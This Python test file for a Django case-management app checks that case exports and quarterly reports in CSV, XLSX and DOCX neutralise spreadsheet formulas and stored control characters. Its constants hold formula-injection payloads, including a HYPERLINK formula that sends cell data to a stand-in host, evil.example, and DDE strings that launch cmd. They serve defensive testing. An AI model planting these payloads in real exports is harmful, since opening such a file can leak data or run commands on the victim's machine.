"""Exports carry no formulas and survive any stored text: an organisation named like an Excel formula comes out of
the case export and the quarterly report as text (CSV: a leading apostrophe; XLSX: a string cell with the quote
prefix), numbers stay numbers, and a control character stored before the input was cleaned does not break a file."""

import csv
import io
import re
from datetime import datetime
from zoneinfo import ZoneInfo

import docx
import openpyxl
import pytest
from django.db import connection

from agencies.models import Agency
from cases.models import Case, CaseType
from reports import case_export
from reports.exports import report_csv, report_docx, report_xlsx
from reports.models import QuarterCell
from reports.quarters import Quarter
from reports.services import export_request
from reports.tables import quarterly_report

from .factories import case_make

pytestmark = pytest.mark.django_db

HCM = ZoneInfo("Asia/Ho_Chi_Minh")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PHONE = "+84 227 3831 245"


def raw_update(model, pk, **values) -> None:
    """Write straight to the table, as rows stored before the input was cleaned were written."""
    columns = ", ".join(f"{name} = %s" for name in values)
    with connection.cursor() as cursor:
        cursor.execute(f"UPDATE {model._meta.db_table} SET {columns} WHERE id = %s", [*values.values(), pk])


def hostile_cases(officer) -> list[Case]:
    received = [datetime(2019, 11, 4 + i, 9, tzinfo=HCM) for i in range(3)]
    cases = [
        case_make(actor=officer, type_code="press_conference", received_at=received[0], subject_name=HYPERLINK,
                  summary=DDE, contact_phone=PHONE, subject_address=AT),
        case_make(actor=officer, type_code="press_conference", received_at=received[1], subject_name=MINUS,
                  summary="Họp báo\tthường niên"),
        case_make(actor=officer, type_code="press_conference", received_at=received[2],
                  subject_name="Hội Nông dân tỉnh Thái Bình", summary="Bình thường"),
    ]
    # Stored before the input was cleaned: a vertical tab, a NUL-free C0 control and a DEL, straight in the table.
    raw_update(Case, cases[2].pk, subject_name="Hội Nông dân\x0btỉnh Thái Bình", summary="Dòng\x01một\x7f")
    return cases


def export(reporter, fmt: str):
    job, _created = export_request(actor=reporter, format=fmt, received_from=datetime(2019, 11, 1, tzinfo=HCM),
                                   received_to=datetime(2019, 12, 1, tzinfo=HCM))
    job = case_export.export_run(job_id=job.pk)
    assert job.status == "done" and job.rows_done == 3
    return job


def test_the_case_export_writes_formulas_as_text_in_xlsx(officer, reporter):
    cases = hostile_cases(officer)
    job = export(reporter, "xlsx")
    sheet = openpyxl.load_workbook(job.file.path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    by_reference = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    header = [cell.value for cell in sheet[1]]
    column = {label: index for index, label in enumerate(header)}

    first = by_reference[cases[0].reference]
    for label, text in (("Tổ chức, cá nhân", HYPERLINK), ("Trích yếu", DDE), ("Điện thoại", PHONE),
                        ("Địa chỉ", AT)):
        cell = first[column[label]]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), label
    second = by_reference[cases[1].reference]
    assert (second[column["Tổ chức, cá nhân"]].value, second[column["Tổ chức, cá nhân"]].quotePrefix) == (MINUS, True)
    assert second[column["Trích yếu"]].value == "Họp báo thường niên"  # cleaned when it was stored
    third = by_reference[cases[2].reference]
    assert third[column["Tổ chức, cá nhân"]].value == "Hội Nông dân\ntỉnh Thái Bình"  # cleaned when written
    assert third[column["Trích yếu"]].value == "Dòngmột"
    assert third[column["Tổ chức, cá nhân"]].quotePrefix is False  # ordinary text is left alone


def test_the_case_export_prefixes_formulas_in_csv(officer, reporter):
    cases = hostile_cases(officer)
    job = export(reporter, "csv")
    with open(job.file.path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    column = {label: index for index, label in enumerate(rows[0])}
    by_reference = {row[0]: row for row in rows[1:]}
    first = by_reference[cases[0].reference]
    assert first[column["Tổ chức, cá nhân"]] == "'" + HYPERLINK
    assert first[column["Trích yếu"]] == "'" + DDE
    assert first[column["Địa chỉ"]] == "'" + AT
    assert first[column["Điện thoại"]] == "'" + PHONE
    assert by_reference[cases[1].reference][column["Tổ chức, cá nhân"]] == "'" + MINUS
    third = by_reference[cases[2].reference]
    assert third[column["Tổ chức, cá nhân"]] == "Hội Nông dân\ntỉnh Thái Bình"
    assert third[column["Trích yếu"]] == "Dòngmột"
    for row in rows[1:]:
        assert not [value for value in row if value[:1] in ("=", "+", "-", "@", "\t", "\r")]


# --- The quarterly report ----------------------------------------------------------------------------------


def figures(code: str, quarter: Quarter, **values) -> None:
    case_type = CaseType.objects.get(code=code)
    for metric, value in values.items():
        QuarterCell.objects.update_or_create(agency=Agency.objects.get(code="thai-binh-stttt"), case_type=case_type,
                                             year=quarter.year, quarter=quarter.number, metric=metric,
                                             defaults={"value": value})


@pytest.fixture
def hostile_report():
    """2019-Q4: bulletins 2 (none in Q3), press conferences 1 (3 in Q3); procedure names an attacker chose, one
    with a vertical tab stored before the input was cleaned."""
    figures("bulletin", Quarter(2019, 4), results=2, received=5, on_time=2)
    figures("press_conference", Quarter(2019, 4), results=1, received=1, early=1)
    figures("press_conference", Quarter(2019, 3), results=3)
    CaseType.objects.filter(code="bulletin").update(name_vi=HYPERLINK)
    CaseType.objects.filter(code="press_conference").update(name_vi=AT)
    raw_update(CaseType, CaseType.objects.get(code="printing_licence").pk, name_vi="Cấp giấy phép\x0bhoạt động in")
    return quarterly_report(Quarter(2019, 4), agency=Agency.objects.get(code="thai-binh-stttt"))


def test_the_report_csv_prefixes_formulas_and_keeps_its_numbers(hostile_report):
    rows = list(csv.reader(io.StringIO(report_csv(hostile_report).decode("utf-8-sig"))))
    # the title, then whose report it is
    assert rows[0] == ["Kết quả thực hiện thủ tục hành chính quý IV/2019",
                       "Sở Thông tin và Truyền thông tỉnh Thái Bình"]
    results = {row[1]: row for row in rows[2:8]}
    bulletin, press = results["'" + HYPERLINK], results["'" + AT]
    assert bulletin[3:] == ["02", "0", "+2"]  # a signed number is not a formula: no apostrophe
    assert press[3:] == ["01", "3", "-2"]
    assert results["Cấp giấy phép\nhoạt động in"][3] == "00"
    assert rows[9] == ["Tình hình giải quyết thủ tục hành chính quý IV/2019"] and rows[10][1] == "Thủ tục"
    processing = {row[1]: row for row in rows[11:17]}
    assert processing["'" + HYPERLINK][2:7] == ["0", "5", "2", "0", "2"]
    for row in rows:  # nothing Excel would evaluate: only signed plain numbers begin with + or -
        assert not [value for value in row if value[:1] in ("=", "@", "\t", "\r")
                    or (value[:1] in ("+", "-") and not re.fullmatch(r"[+-][\d.]+", value))]


def test_the_report_xlsx_has_no_formula_text_counts_and_numeric_figures(hostile_report):
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(hostile_report)))
    assert [sheet.title for sheet in book.worksheets] == ["I.5 Kết quả TTHC", "Tình hình giải quyết",
                                                          "Thanh tra, kiểm tra", "Chất lượng phục vụ"]
    for sheet in book.worksheets:
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    results = {row[1].value: row for row in book.worksheets[0].iter_rows(min_row=3)}
    bulletin, press = results[HYPERLINK], results[AT]
    assert (bulletin[1].data_type, bulletin[1].quotePrefix) == ("s", True)
    # as the report writes them: "02", "+2" are text; the previous quarter's count is a number
    assert [(cell.value, cell.data_type) for cell in bulletin[3:]] == [("02", "s"), (0, "n"), ("+2", "s")]
    assert [(cell.value, cell.data_type) for cell in press[3:]] == [("01", "s"), (3, "n"), ("-2", "s")]
    assert results["Cấp giấy phép\nhoạt động in"][0].data_type == "n"
    processing = {row[1].value: [cell.value for cell in row] for row in book.worksheets[1].iter_rows(min_row=3)}
    assert processing[HYPERLINK][2:7] == [0, 5, 2, 0, 2]  # carried over, received, resolved, early, on time
    assert book.worksheets[0]["A1"].value == "Kết quả thực hiện thủ tục hành chính quý IV/2019"


def test_the_report_docx_survives_a_stored_control_character(hostile_report):
    document = docx.Document(io.BytesIO(report_docx(hostile_report)))
    texts = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert "Cấp giấy phép\nhoạt động in" in texts and HYPERLINK in texts
